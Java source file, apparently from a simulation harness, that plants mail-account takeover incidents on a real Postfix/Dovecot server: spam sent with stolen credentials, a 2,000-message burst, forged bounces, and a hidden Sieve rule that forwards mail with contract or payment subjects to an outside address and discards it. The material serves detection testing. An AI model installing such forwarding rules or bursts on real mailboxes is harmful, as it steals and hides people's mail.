package org.mimawari.realmail;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.function.UnaryOperator;
import org.mimawari.simulator.PlantedIncident;

/**
 * The five takeovers on a real mail server. S0 and S3 lie in the log of the weeks before and in what came back for them; S1,
 * S2 and S4 happen now, through Postfix, Dovecot and Pigeonhole. Before and beside them people work as usual.
 */
final class Replay implements AutoCloseable {

    static final List<String> MAILBOXES = List.of("info@hinode.example", "koho@hinode.example", "noreply@hinode.example",
            "newsletter@hinode.example", "kato@hinode.example", "suzuki@hinode.example", "yoshida@hinode.example",
            "tanaka@hinode.example", "ito@hinode.example");
    static final String OFFICE = "192.0.2.10";
    static final String S1_FROM = "203.0.113.130";
    static final String S2_FROM = "198.51.100.23";
    static final String S4_FROM = "203.0.113.201";
    static final int BURST = 2_000;
    static final int LOST = 36;
    private static final int SENDERS = 8;
    private static final int REFUSE_ONE_IN = 9;
    private static final String THEFT = """
            require ["copy", "fileinto"];
            # rule:[.]
            if anyof (header :contains "subject" ["契約", "請求", "振込"]) {
                redirect "archive@keepsafe.example";
                discard;
                stop;
            }
            """;

    private final Path folder;
    private final RealMailServer server;
    private final Clock clock = Clock.systemUTC();
    private final Map<String, PlantedIncident> incidents = new TreeMap<>();

    Replay(Path folder) throws IOException {
        this.folder = folder;
        this.server = RealMailServer.prepare();
    }

    void run() throws IOException, InterruptedException, ExecutionException {
        pastWeeks();
        server.start("hinode.example", MAILBOXES);
        workToday();
        quietTheft();
        bouncesForMailNeverSent();
        burstOfNoreply();
        server.awaitEmptyQueue();
        copyLogs(evidence(), line -> line);
    }

    /** Copies what the servers have logged so far, beside the log of the weeks before. */
    void copyLogs(Path to, UnaryOperator<String> change) throws IOException {
        for (String log : List.of("mail.log", "dovecot.log")) {
            Files.createDirectories(to.resolve("live"));
            List<String> lines = Files.readAllLines(server.logs().resolve(log)).stream().map(change).toList();
            Files.write(to.resolve("live").resolve(log), lines);
        }
        if (!to.equals(evidence())) {
            Files.createDirectories(to.resolve("mx1"));
            Files.copy(evidence().resolve("mx1/mail.log"), to.resolve("mx1/mail.log"));
        }
    }

    RealMailServer server() {
        return server;
    }

    Path evidence() {
        return folder.resolve("evidence");
    }

    PlantedIncident incident(String id) {
        return incidents.get(id);
    }

    @Override
    public void close() throws IOException {
        server.close();
    }

    private void pastWeeks() throws IOException {
        PastWeeks past = new PastWeeks(folder, LocalDate.now(clock.withZone(PastWeeks.TOKYO)));
        past.writeLog(evidence(), List.of("suzuki@hinode.example", "yoshida@hinode.example", "tanaka@hinode.example"));
        past.incidents().forEach(incident -> incidents.put(incident.id(), incident));
        past.storeMail(server, "yoshida@hinode.example", List.of("tanaka@hinode.example", "ito@hinode.example"));
        int number = 0;
        for (PastWeeks.Submitted message : past.submissions()) {
            boolean person = message.ip().equals(OFFICE);
            if (person) {
                server.store(message.user(), "Sent", "s" + ++number, Letters.ordinary(message.user(), message.to(),
                        message.id(), message.time()));
            } else if (!message.ip().startsWith("192.0.2.") && ++number % 4 == 0) {
                for (String recipient : message.refused()) {
                    server.store(message.user(), "INBOX", "n" + number + "." + recipient, Letters.failure(message, recipient));
                }
            }
        }
        server.store("newsletter@hinode.example", "INBOX", "1", Letters.ordinary("reader@client1.example",
                List.of("newsletter@hinode.example"), "<1@client1.example>", clock.instant().minusSeconds(90_000)));
    }

    /** A person sends, and the client keeps a copy in Sent. */
    private void workToday() throws IOException {
        String kato = "kato@hinode.example";
        try (Submission smtp = Submission.of(server, OFFICE, kato); Talk imap = imap(OFFICE, kato)) {
            for (int i = 0; i < 3; i++) {
                String text = Letters.ordinary(kato, List.of("takahashi@minato.example"), "<today" + i + "@hinode.example>",
                        clock.instant());
                smtp.send(kato, List.of("takahashi@minato.example"), text);
                byte[] bytes = text.replace("\n", "\r\n").getBytes(StandardCharsets.UTF_8);
                imap.expect("b APPEND Sent (\\Seen) {" + bytes.length + "}", "+", "b ");
                imap.expect(text.replace("\n", "\r\n"), "b OK", "b ");
            }
            imap.expect("c LOGOUT", "c OK");
        }
        try (Submission partner = Submission.fromOutside(server, "198.51.100.9")) {
            partner.send("takahashi@minato.example", List.of(kato, "tanaka@hinode.example"),
                    Letters.ordinary("takahashi@minato.example", List.of(kato), "<answer@minato.example>", clock.instant()));
        }
    }

    /** S4: a stolen password, the whole inbox read, and a rule that forwards contracts and hides them. */
    private void quietTheft() throws IOException {
        String tanaka = "tanaka@hinode.example";
        Instant from = clock.instant();
        try (Talk imap = imap(S4_FROM, tanaka)) {
            imap.expect("b SELECT INBOX", "b OK", "b ");
            imap.expect("c FETCH 1:* BODY.PEEK[]", "c OK", "c ");
            imap.expect("d LOGOUT", "d OK");
        }
        try (Talk sieve = from(S4_FROM, "SIEVE_FROM")) {
            sieve.until("OK");
            sieve.expect("STARTTLS", "OK", "NO");
            sieve.encrypt();
            sieve.until("OK");
            sieve.expect("AUTHENTICATE \"PLAIN\" \"" + plain(tanaka) + "\"", "OK", "NO");
            int size = THEFT.getBytes(StandardCharsets.UTF_8).length;
            sieve.expect("PUTSCRIPT \"main\" {" + size + "+}\r\n" + THEFT, "OK", "NO");
            sieve.expect("SETACTIVE \"main\"", "OK", "NO");
            sieve.expect("LOGOUT", "OK");
        }
        incidents.put("S4", new PlantedIncident("S4", tanaka, from, clock.instant()));
    }

    /** S1: failures come back for mail that the owner never sent; others get failures for mail that only bore their name. */
    private void bouncesForMailNeverSent() throws IOException {
        incidents.put("S1", submitInNameOf("suzuki@hinode.example"));
        try (Submission mx = Submission.fromOutside(server, "198.51.100.80")) {
            for (int i = 0; i < 6; i++) {
                mx.send("", List.of("yoshida@hinode.example"),
                        Letters.forgedFailure("yoshida@hinode.example", i, clock.instant()));
            }
        }
    }

    /** Mail to people who do not exist, with a stolen password. */
    PlantedIncident submitInNameOf(String mailbox) throws IOException {
        Instant from = clock.instant();
        try (Submission smtp = Submission.of(server, S1_FROM, mailbox)) {
            for (int i = 0; i < LOST; i++) {
                String to = "nobody" + i + "@client" + i + ".example";
                smtp.send(mailbox, List.of(to), Letters.spam(mailbox, to, i, clock.instant()));
            }
        }
        return new PlantedIncident("S1", mailbox, from, clock.instant());
    }

    /** S2: a machine's mailbox signs in like a person, and 2,000 messages leave it within a minute or so. */
    private void burstOfNoreply() throws IOException, InterruptedException, ExecutionException {
        String noreply = "noreply@hinode.example";
        Instant from = clock.instant();
        try (Talk imap = imap(S2_FROM, noreply)) {
            imap.expect("b LOGOUT", "b OK");
        }
        ExecutorService senders = Executors.newFixedThreadPool(SENDERS);
        List<Future<?>> all = new ArrayList<>();
        for (int part = 0; part < SENDERS; part++) {
            int first = part * BURST / SENDERS;
            all.add(senders.submit(() -> {
                send(noreply, first, first + BURST / SENDERS);
                return first;
            }));
        }
        for (Future<?> one : all) {
            one.get();
        }
        senders.shutdown();
        incidents.put("S2", new PlantedIncident("S2", noreply, from, clock.instant()));
    }

    private void send(String user, int from, int to) throws IOException {
        try (Submission smtp = Submission.of(server, S2_FROM, user)) {
            for (int i = from; i < to; i++) {
                String recipient = (i % REFUSE_ONE_IN == 0 ? "nobody" : "customer") + i + "@world" + i % 300 + ".example";
                smtp.send(user, List.of(recipient), Letters.spam(user, recipient, i, clock.instant()));
            }
        }
    }

    /** Signed in to IMAP from this address, which Dovecot is told by the PROXY protocol. */
    private Talk imap(String ip, String user) throws IOException {
        Talk talk = from(ip, "IMAP_FROM");
        talk.until("* OK");
        talk.expect("a STARTTLS", "a OK", "a ");
        talk.encrypt();
        talk.expect("a AUTHENTICATE PLAIN " + plain(user), "a OK", "a ");
        return talk;
    }

    private Talk from(String ip, String port) throws IOException {
        Talk talk = new Talk(server.port(port), server.trust());
        talk.write("PROXY TCP4 " + ip + " 127.0.0.1 40000 " + server.port(port) + "\r\n");
        return talk;
    }

    private static String plain(String user) {
        byte[] bytes = ("\0" + user + "\0" + RealMailServer.PASSWORD).getBytes(StandardCharsets.UTF_8);
        return Base64.getEncoder().encodeToString(bytes);
    }
}
